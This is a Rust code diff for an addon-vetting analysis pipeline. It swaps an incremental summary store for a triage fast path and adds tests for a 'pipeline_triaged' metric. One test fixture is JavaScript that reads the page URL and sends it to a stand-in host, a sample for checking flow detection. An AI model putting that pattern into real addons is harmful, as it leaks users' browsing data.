@@ -65,7 +65,6 @@
 #![warn(missing_docs)]
 
 pub mod drift;
-pub mod ladder;
 
 pub use corpus;
 pub use jsanalysis;
@@ -79,7 +78,7 @@ pub use sigobs;
 pub use sigserve;
 pub use sigtrace;
 
-use jsanalysis::{AnalysisConfig, AnalysisResult, BudgetKind, IncrementalStats, SummaryStore};
+use jsanalysis::{AnalysisConfig, AnalysisResult, BudgetKind};
 use jsir::Lowered;
 use jspdg::Pdg;
 use jssig::{FlowLattice, Signature};
@@ -88,7 +87,6 @@ use sigtrace::{
     Trace, Tracer,
 };
 use std::fmt;
-use std::sync::Arc;
 use std::time::{Duration, Instant};
 
 /// Errors surfaced by the pipeline.
@@ -160,7 +158,8 @@ pub struct Report {
     pub lowered: Lowered,
     /// Base-analysis results (read/write sets, call graph, sinks, ...).
     pub analysis: AnalysisResult,
-    /// The annotated program dependence graph.
+    /// The annotated program dependence graph (empty when
+    /// [`Report::triaged`]).
     pub pdg: Pdg,
     /// The inferred security signature.
     pub signature: Signature,
@@ -170,10 +169,11 @@ pub struct Report {
     /// Pipeline work counters, collected whether or not a tracer was
     /// attached. Deterministic for a fixed source and configuration.
     pub counters: Counters,
-    /// Summary-store statistics when the pipeline ran incrementally
-    /// (a store was attached with [`Pipeline::summary_store`]); `None`
-    /// for plain cold runs.
-    pub incremental: Option<IncrementalStats>,
+    /// Whether triage skipped phase 2: [`AnalysisConfig::triage`] was on
+    /// and phase 1 proved no flow entry can exist
+    /// ([`jssig::flows_impossible`]). The signature is the same either
+    /// way; only the PDG and its phase time are missing.
+    pub triaged: bool,
     /// Per-job cost attribution (which functions, context depths and
     /// phases ate the budget), when [`Pipeline::profile`] was enabled;
     /// `None` otherwise.
@@ -193,7 +193,6 @@ pub struct Pipeline<'t> {
     config: AnalysisConfig,
     lattice: FlowLattice,
     trace: Trace<'t>,
-    summary_store: Option<Arc<dyn SummaryStore>>,
     profile: bool,
 }
 
@@ -205,7 +204,6 @@ impl Pipeline<'static> {
             config: AnalysisConfig::default(),
             lattice: FlowLattice::paper(),
             trace: Trace::Off,
-            summary_store: None,
             profile: false,
         }
     }
@@ -237,7 +235,6 @@ impl<'t> Pipeline<'t> {
             config: self.config,
             lattice: self.lattice,
             trace: Trace::On(tracer),
-            summary_store: self.summary_store,
             profile: self.profile,
         }
     }
@@ -254,16 +251,6 @@ impl<'t> Pipeline<'t> {
         self
     }
 
-    /// Attaches a per-function summary store: the base analysis runs
-    /// incrementally, splicing in stored summaries for unchanged
-    /// functions and re-extracting summaries for whatever ran live.
-    /// Results are bit-identical to a cold run; the hit/miss statistics
-    /// land in [`Report::incremental`].
-    pub fn summary_store(mut self, store: Arc<dyn SummaryStore>) -> Pipeline<'t> {
-        self.summary_store = Some(store);
-        self
-    }
-
     /// Runs the full pipeline.
     ///
     /// # Errors
@@ -276,7 +263,6 @@ impl<'t> Pipeline<'t> {
             config,
             lattice,
             trace,
-            summary_store,
             profile,
         } = self;
         // The user's tracer (if any) sits behind a tap that also keeps
@@ -310,22 +296,7 @@ impl<'t> Pipeline<'t> {
         } else {
             Attribution::Off
         };
-        let (analysis, incremental) = match &summary_store {
-            Some(store) => {
-                let (a, stats) = jsanalysis::analyze_incremental_attributed(
-                    &lowered,
-                    &config,
-                    store.as_ref(),
-                    &mut trace,
-                    &mut attr,
-                );
-                (a, Some(stats))
-            }
-            None => (
-                jsanalysis::analyze_attributed(&lowered, &config, &mut trace, &mut attr),
-                None,
-            ),
-        };
+        let analysis = jsanalysis::analyze_attributed(&lowered, &config, &mut trace, &mut attr);
         drop(attr);
         let p1 = start.elapsed();
         trace.span_end("phase1");
@@ -354,16 +325,16 @@ impl<'t> Pipeline<'t> {
             });
         }
 
-        // Triage fast path: in triage tiers, when phase 1 alone proves
-        // no flow entry can exist (no reachable interesting-source read,
-        // or no reachable sink), skip PDG construction — phase 3 against
-        // an empty PDG produces the byte-identical flows-free signature
-        // (sinks and API entries are phase-1-derived). This is what makes
-        // tier 0 cheap on benign-heavy traffic: phase 2 is 30–50% of a
-        // typical addon's cost. Gated on `config.triage` (not done
+        // Triage fast path: when phase 1 alone proves no flow entry can
+        // exist (no reachable interesting-source read, or no reachable
+        // sink), skip PDG construction — phase 3 against an empty PDG
+        // produces the byte-identical flows-free signature (sinks and API
+        // entries are phase-1-derived). This is what makes the daemon
+        // cheap on benign-heavy traffic: phase 2 is 30–50% of a typical
+        // addon's cost. Gated on `config.triage` (not done
         // unconditionally) because the skip changes verdict provenance —
-        // no witnesses or PDG paths are possible — and tier identity in
-        // caches hinges on the knob being part of the canonical config.
+        // no witnesses or PDG paths are possible — and caches hinge on
+        // the knob being part of the canonical config.
         let triaged = config.triage && jssig::flows_impossible(&analysis);
         let (pdg, p2) = if triaged {
             (Pdg::default(), Duration::ZERO)
@@ -395,7 +366,7 @@ impl<'t> Pipeline<'t> {
             signature,
             timings: PhaseTimings::new(p1, p2, p3),
             counters: tap.counters,
-            incremental,
+            triaged,
             profile: job_profile,
         })
     }
@@ -516,54 +487,9 @@ pub fn service_engine_traced(
     finish_service(result, metrics)
 }
 
-/// [`service_engine_traced`] with a per-function summary store attached:
-/// resubmitting an edited addon re-analyzes only the changed functions
-/// and splices stored summaries for the rest. Per-job statistics land in
-/// the daemon's metrics registry as the `summary_hits`,
-/// `summary_misses` and `functions_reanalyzed` counters (plus
-/// `summary_abandoned` for warm runs that had to fall back to a cold
-/// re-run), so they show up in `stats` responses and the Prometheus
-/// exposition. With an event log attached, each completed job also
-/// emits a `summary_lookup` record carrying the same statistics. This
-/// is what `vet serve --summary-dir DIR` installs.
-pub fn service_engine_incremental(
-    source: &str,
-    config: &AnalysisConfig,
-    metrics: &MetricsRegistry,
-    store: &Arc<dyn SummaryStore>,
-    log: Option<&sigserve::EventLog>,
-    trace: Trace<'_>,
-) -> sigserve::VetOutcome {
-    let pipeline = Pipeline::new()
-        .config(config.clone())
-        .summary_store(Arc::clone(store))
-        .profile(true);
-    let result = match trace {
-        Trace::On(tracer) => pipeline.tracer(tracer).run(source),
-        Trace::Off => pipeline.run(source),
-    };
-    if let (Ok(report), Some(log)) = (&result, log) {
-        if let Some(stats) = &report.incremental {
-            let n = |v: u64| minijson::Json::from(v as f64);
-            log.log(
-                sigserve::Level::Info,
-                "summary_lookup",
-                &[
-                    ("hits", n(stats.summary_hits)),
-                    ("misses", n(stats.summary_misses)),
-                    ("reanalyzed", n(stats.functions_reanalyzed)),
-                    ("total", n(stats.total_functions)),
-                    ("abandoned", n(stats.abandoned)),
-                ],
-            );
-        }
-    }
-    finish_service(result, metrics)
-}
-
 /// Maps a pipeline result onto a [`sigserve::VetOutcome`] and folds its
-/// counters, phase latencies and (for incremental runs) summary-store
-/// statistics into the daemon's metrics registry.
+/// counters and phase latencies into the daemon's metrics registry;
+/// a job whose phase 2 triage skipped counts in `pipeline_triaged`.
 fn finish_service(result: Result<Report, Error>, metrics: &MetricsRegistry) -> sigserve::VetOutcome {
     match result {
         Ok(report) => {
@@ -572,11 +498,8 @@ fn finish_service(result: Result<Report, Error>, metrics: &MetricsRegistry) -> s
             metrics.record("pipeline_p1_us", us(report.timings.p1));
             metrics.record("pipeline_p2_us", us(report.timings.p2));
             metrics.record("pipeline_p3_us", us(report.timings.p3));
-            if let Some(stats) = &report.incremental {
-                metrics.add("summary_hits", stats.summary_hits);
-                metrics.add("summary_misses", stats.summary_misses);
-                metrics.add("functions_reanalyzed", stats.functions_reanalyzed);
-                metrics.add("summary_abandoned", stats.abandoned);
+            if report.triaged {
+                metrics.add("pipeline_triaged", 1);
             }
             match report.profile {
                 Some(profile) => sigserve::VetOutcome::report_profiled(
@@ -709,5 +632,29 @@ mod tests {
             sigserve::VetOutcome::Timeout { steps, .. } => assert!(steps > 1),
             other => panic!("expected Timeout, got {other:?}"),
         }
+        // Untriaged runs never count as triaged.
+        assert_eq!(triaged_count(&metrics), None);
+
+        // Under triage a flow-free addon skips phase 2 and is counted; an
+        // addon with a reachable source and sink runs phase 2 and is not.
+        let triage = AnalysisConfig::default().with_triage(true);
+        let benign = MetricsRegistry::new();
+        service_engine("var x = 1;", &triage, &benign);
+        assert_eq!(triaged_count(&benign), Some(1));
+        let flowing = MetricsRegistry::new();
+        service_engine(
+            "var u = content.location.href; var r = XHRWrapper(\"http://x.com\"); r.send(u);",
+            &triage,
+            &flowing,
+        );
+        assert_eq!(triaged_count(&flowing), None);
+    }
+
+    fn triaged_count(metrics: &MetricsRegistry) -> Option<u64> {
+        metrics
+            .snapshot()
+            .counters
+            .into_iter()
+            .find_map(|(name, v)| (name == "pipeline_triaged").then_some(v))
     }
 }
